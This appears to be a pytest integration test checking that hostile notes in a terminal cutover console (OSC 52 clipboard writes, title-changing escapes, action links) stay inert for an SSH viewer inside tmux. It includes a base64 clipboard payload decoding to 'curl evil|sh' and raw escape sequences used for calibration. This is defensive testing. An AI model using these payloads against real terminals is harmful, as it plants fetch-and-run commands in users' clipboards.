"""Hostile notes seen by a real teammate: the OpenSSH client in a tmux pane watching `cutover
serve` on loopback. tmux plays the terminal that would obey: `set-clipboard on` turns an OSC 52
into a paste buffer, `set-titles`/`allow-rename` let an OSC 0/2 retitle the pane (a calibration
pane proves both detectors fire on raw bytes). The watcher draws one note per corpus class in the
Journal pane, the cursor runs over the rows and the action links are clicked with raw SGR mouse
events; the pane title and the paste buffers stay clean, the screen shows the inert forms, the
bytes the ssh client received carry no terminal control, and the server writes no file and no
event. Corpus and checks: tests/hostile.py."""

from __future__ import annotations

import base64
import os
import re
import shlex
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from hostile import CORPUS, forbidden_in
from servers import free_port, wait_port
from support import SMALL, require_binary, run_cli
from test_ssh_watch import Served, keypair, viewers_of
from textual.css.constants import VALID_POINTER

pytestmark = pytest.mark.integration

SIZE = (240, 60)  # wide enough for every column of the Journal pane, tall enough for its rows
LINKS = ("action-quit", "action-screenshot", "action-start")  # notes that are action links
LINK_WORDS = {
    "action-quit": "quitlink",
    "action-screenshot": "shotlink",
    "action-start": "startlink",
}
OSC52_PAYLOAD = "Y3VybCBldmlsfHNo"
OSC52_DECODED = base64.b64decode(OSC52_PAYLOAD).decode()  # "curl evil|sh"
HOSTILE_TITLES = ("PWNED-TITLE", "PWNED-TWO")

# The one terminal control of Textual's own that `forbidden_in` flags: OSC 22, the Kitty mouse
# pointer shape (`ESC ] 22 ; <shape> BEL`, from App._set_pointer_shape), for the shapes its CSS
# allows. Exactly those sequences are removed before the check; every hostile payload is also
# searched for raw (`raw_fragments`), so this filter cannot hide a note's bytes.
TEXTUAL_POINTER_SHAPE = re.compile(
    "\x1b\\]22;(?:" + "|".join(map(re.escape, sorted(VALID_POINTER))) + ")\x07"
)
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u202e]")


@dataclass
class Setup:
    root: Path
    cwd: Path  # the server's working directory: empty, and must stay so
    home: Path  # the server's (and so the viewer's) HOME: empty, and must stay so
    served: Served


def tmux(socket: str, *args: str, check: bool = True) -> str:
    """A command to the test's own tmux server (its own socket and config: nothing of the
    user's tmux is read or touched)."""
    return subprocess.run(
        ["tmux", "-u", "-L", socket, *args],
        capture_output=True,
        encoding="utf-8",
        errors="replace",  # a buffer filled by OSC 52 holds whatever bytes it decoded to
        check=check,
        env={**os.environ, "LANG": "C.UTF-8"},
    ).stdout


def event_count(journal: Path) -> int:
    out = run_cli("events", "-j", str(journal), "--jsonl")
    assert out.returncode == 0, out.stderr
    return len(out.stdout.splitlines())


def files_of_interest(setup: Setup) -> set[str]:
    """Every file in the server's cwd and HOME, and any `*.svg`/`pwned*` at the top of the real
    HOME, its Downloads (Textual's screenshot default) and /tmp."""
    found = {str(p) for top in (setup.cwd, setup.home) for p in top.rglob("*")}
    home = Path(os.environ.get("HOME", "/"))
    for top in (home, home / "Downloads", Path("/tmp")):
        for pattern in ("*.svg", "pwned*", "PWNED*"):
            found |= {str(p) for p in top.glob(pattern)}
    return found


@contextmanager
def hostile_serve(root: Path) -> Iterator[Setup]:
    """A journal holding one note per corpus class (through the real CLI, each text one argv
    element), served with an empty cwd and an empty HOME."""
    require_binary("ssh")
    key = keypair(root, "dba-raj")
    (root / "authorized_keys").write_text(Path(f"{key}.pub").read_text())
    journal = root / "j.sqlite"
    assert run_cli("init", str(SMALL), "--journal", str(journal)).returncode == 0
    for hostile, _shown in CORPUS.values():
        note = run_cli("note", hostile, "-j", str(journal), "--by", "lena", "--step", "freeze")
        assert note.returncode == 0, note.stderr
    cwd, home = root / "cwd", root / "home"
    cwd.mkdir()
    home.mkdir()
    port = free_port()
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "cutover_console",
            "serve",
            "--journal",
            str(journal),
            "--port",
            str(port),
            "--authorized-keys",
            str(root / "authorized_keys"),
            "--host-key",
            str(root / "host_key"),
        ],
        stdout=(root / "serve.log").open("wb"),
        stderr=subprocess.STDOUT,
        cwd=cwd,
        env={**os.environ, "HOME": str(home)},
        start_new_session=True,
    )
    try:
        wait_port("127.0.0.1", port)
        scan = subprocess.run(
            ["ssh-keyscan", "-p", str(port), "127.0.0.1"], capture_output=True, text=True
        )
        (root / "known").write_text(scan.stdout)
        yield Setup(root, cwd, home, Served(root, journal, port, proc, key))
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        proc.wait(timeout=10)


def wait_screen(socket: str, pane: str, text: str, timeout: float = 20) -> str:
    deadline = time.monotonic() + timeout
    screen = ""
    while time.monotonic() < deadline:
        screen = tmux(socket, "capture-pane", "-p", "-t", pane)
        if text in screen:
            return screen
        time.sleep(0.1)
    raise AssertionError(f"{text!r} never appeared:\n{screen}")


def raw_fragments(hostile: str) -> list[str]:
    """Each control character of `hostile` with the five characters after it, raw: what the
    stream would hold had the payload passed (`\\x1b]0;PW`, `\\x07title`, `\\x9b2Jcs`…). No
    sequence of the app's own is followed by a note's words."""
    return [hostile[m.start() : m.start() + 6] for m in CONTROL.finditer(hostile)]


def buffers(socket: str) -> list[str]:
    names = tmux(socket, "list-buffers", "-F", "#{buffer_name}", check=False).split()
    return [tmux(socket, "show-buffer", "-b", name, check=False) for name in names]


def locate(screen: str, word: str, on: str) -> tuple[int, int] | None:
    """1-based (column, row) of the middle of `word` on the first screen line that also shows
    `on` (each character one cell: the console shows ASCII, box drawing and Control Pictures,
    all one cell wide)."""
    for y, line in enumerate(screen.splitlines()):
        x = line.rfind(word)
        if x >= 0 and on in line:
            return x + len(word) // 2 + 1, y + 1
    return None


def click(socket: str, pane: str, column: int, row: int) -> None:
    """A left click as a terminal in SGR mouse mode reports it: press, then release."""
    for final in ("M", "m"):
        # check=False: a click that ends the watcher takes the pane with it (a finding)
        tmux(socket, "send-keys", "-t", pane, "-l", f"\x1b[<0;{column};{row}{final}", check=False)
        time.sleep(0.05)


def test_hostile_notes_are_inert_for_a_real_ssh_watcher(tmp_path: Path) -> None:
    require_binary("tmux")
    require_binary("script")
    socket = f"cutover-untrusted-{os.getpid()}"
    conf = tmp_path / "tmux.conf"
    conf.write_text(
        "set -g set-clipboard on\n"  # an OSC 52 from the pane becomes a paste buffer
        "set -g allow-rename on\n"
        "set -g set-titles on\n"
        "set -g automatic-rename off\n"
    )
    tmux(socket, "-f", str(conf), "start-server", ";", "new", "-d", "-s", "keep")
    try:
        calibrate(socket)
        with hostile_serve(tmp_path) as setup:
            found = watch(socket, setup, tmp_path / "ssh.bytes")
        stream = (tmp_path / "ssh.bytes").read_bytes().decode("utf-8", "replace")
    finally:
        tmux(socket, "kill-server", check=False)

    # the bytes the ssh client received: the notes' rows passed through, no payload raw
    assert "clipword" in stream, "the notes never reached the ssh client"
    leaked = [f for hostile, _ in CORPUS.values() for f in raw_fragments(hostile) if f in stream]
    if leaked:
        found.append(f"raw in the ssh stream: {leaked}")
    controls = forbidden_in(TEXTUAL_POINTER_SHAPE.sub("", stream))
    if controls:
        found.append(f"terminal controls in the ssh stream: {controls}")
    # every finding at once: which surfaces let hostile text through
    assert found == [], "\n".join(found)


def calibrate(socket: str) -> None:
    """The detectors work: the same bytes, raw, retitle a pane and fill a paste buffer."""
    tmux(
        socket,
        "new",
        "-d",
        "-s",
        "calibrate",
        f"printf '\\033]0;CALIBRATED\\007\\033]52;c;{OSC52_PAYLOAD}\\007'; sleep 30",
    )
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and not buffers(socket):
        time.sleep(0.1)
    assert tmux(socket, "display", "-p", "-t", "calibrate", "#{pane_title}").strip() == (
        "CALIBRATED"
    )
    assert any(OSC52_DECODED in b for b in buffers(socket)), buffers(socket)
    tmux(socket, "kill-session", "-t", "calibrate")
    for _ in buffers(socket):
        tmux(socket, "delete-buffer")
    assert buffers(socket) == []


def watch(socket: str, setup: Setup, log: Path) -> list[str]:
    """The watcher in a pane: the rows drawn, the cursor over them, the links clicked. What
    went wrong on the terminal, the server's disk or the journal, one line each (setup
    failures assert at once)."""
    found: list[str] = []
    served = setup.served
    journal_events = event_count(served.journal)
    assert journal_events == 1 + len(CORPUS)
    files_before = files_of_interest(setup)
    ssh = [*served.ssh("-t"), "-o", "SendEnv=LANG"]
    pane = "watch"
    tmux(
        socket,
        "new",
        "-d",
        "-s",
        pane,
        "-x",
        str(SIZE[0]),
        "-y",
        str(SIZE[1]),
        "-e",
        "LANG=C.UTF-8",
        # script records every byte the ssh client hands the terminal
        shlex.join(["script", "-q", "-f", "-c", shlex.join(ssh), str(log)]),
    )

    def title() -> str:
        return tmux(socket, "display", "-p", "-t", pane, "#{pane_title}", check=False).strip()

    def screen() -> str:
        return tmux(socket, "capture-pane", "-p", "-t", pane, check=False)

    def styled(word: str) -> str:  # the Journal row showing `word`, with its colours
        lines = tmux(socket, "capture-pane", "-p", "-e", "-t", pane, check=False).splitlines()
        return next((line for line in lines if word in line and "note.added" in line), "")

    def check_title(when: str) -> None:
        now = title()
        if now != before:
            found.append(f"pane title {when}: {now!r} (was {before!r})")

    before = title()
    wait_screen(socket, pane, "Small test cutover")
    (viewer,) = viewers_of(served.proc.pid)
    script_pid = tmux(socket, "display", "-p", "-t", pane, "#{pane_pid}").strip()

    # the Journal pane: every note's row is drawn (and the step's detail lists the notes)
    tmux(socket, "send-keys", "-t", pane, "4")
    deadline = time.monotonic() + 15
    while screen().count("note.added") < len(CORPUS) and time.monotonic() < deadline:
        time.sleep(0.1)
    time.sleep(0.5)
    check_title("once the rows are drawn")

    # the cursor over every row (a click on the first focuses the table): each redraw inert
    # (the pane keeps its newest rows in view, so the first note may be scrolled off: any row
    # of the table will do)
    first = locate(screen(), "note.added", on="note.added")
    if first is None:
        found.append(f"the screen lost the Journal pane's first row:\n{screen()}")
    else:
        click(socket, pane, *first)
    for key in ["Up"] * 3 + ["Down"] * (len(CORPUS) + 3) + ["Home", "End", "Up", "Up"]:
        tmux(socket, "send-keys", "-t", pane, key)
        time.sleep(0.03)
    time.sleep(0.7)
    shown = screen()
    rows = [line for line in shown.splitlines() if "note.added" in line and "freeze" in line]
    # the step's detail, right of the last divider: a long note wraps, so its lines are joined
    detail = " ".join(
        line.rsplit("│", 1)[1].strip(" █") for line in shown.splitlines() if "│" in line
    )
    notes = [f"lena: {note}" for note in detail.split("lena: ")[1:]]
    if len(rows) != len(CORPUS):
        found.append(f"{len(rows)} of {len(CORPUS)} notes' rows are on the screen")
    for cls, (_hostile, form) in CORPUS.items():  # each whole, on a row of its own
        if not [row for row in rows if form in row]:
            found.append(f"Journal pane: no row shows {cls} as {form!r}")
        if not [note for note in notes if form in note]:
            found.append(f"step detail: no note shows {cls} as {form!r}")
    check_title("after the cursor ran over the rows")

    # a click on each action link, in the Journal row and in the detail's note: nothing runs
    for cls in LINKS:
        word = LINK_WORDS[cls]
        row, note = locate(shown, word, on="note.added"), locate(shown, word, on="lena: ")
        if row is None:
            found.append(f"no Journal row shows {word!r} to click")
        else:
            unclicked = styled(word)
            click(socket, pane, *row)
            time.sleep(0.5)
            # the click arrived: its row is now the cursor's (drawn in other colours)
            if styled(word) in ("", unclicked):
                found.append(f"a click on the {cls} row did not select it (or the watcher ended)")
        if note is not None:
            click(socket, pane, *note)
            time.sleep(0.5)
    time.sleep(1.0)
    after = screen()
    if "Small test cutover" not in after or viewers_of(served.proc.pid) != [viewer]:
        found.append(f"the watcher ended after the clicks:\n{after}")
    else:
        tmux(socket, "send-keys", "-t", pane, "3")  # and it still answers: away and back
        deadline = time.monotonic() + 10
        while "note.added" in screen() and time.monotonic() < deadline:
            time.sleep(0.1)
        tmux(socket, "send-keys", "-t", pane, "4")
        deadline = time.monotonic() + 10
        while "note.added" not in screen() and time.monotonic() < deadline:
            time.sleep(0.1)
        if "note.added" not in screen():
            found.append("the watcher no longer answers keys after the clicks")
        ssh_alive = subprocess.run(["pgrep", "-x", "ssh", "-P", script_pid], capture_output=True)
        if ssh_alive.returncode != 0:
            found.append("the ssh client has ended")
        check_title("after the clicks")

    # no title, no clipboard, no file on the server's side, no event
    names = tmux(socket, "list-windows", "-a", "-F", "#{window_name} #{pane_title}")
    if [t for t in HOSTILE_TITLES if t in names]:
        found.append(f"a hostile window name or title: {names!r}")
    held = buffers(socket)
    if [b for b in held if OSC52_PAYLOAD in b or OSC52_DECODED in b]:
        found.append(f"OSC 52 reached the clipboard: {held!r}")
    elif held:
        found.append(f"paste buffers appeared: {held!r}")
    new_files = files_of_interest(setup) - files_before
    if new_files:
        found.append(f"files written: {sorted(new_files)}")
    events = event_count(served.journal)
    if events != journal_events:
        found.append(f"the journal has {events} events, not {journal_events}")

    tmux(socket, "send-keys", "-t", pane, "q", check=False)
    deadline = time.monotonic() + 10
    while viewers_of(served.proc.pid) and time.monotonic() < deadline:
        time.sleep(0.1)
    deadline = time.monotonic() + 10  # script has written every byte once it has ended
    while Path(f"/proc/{script_pid}").exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    return found
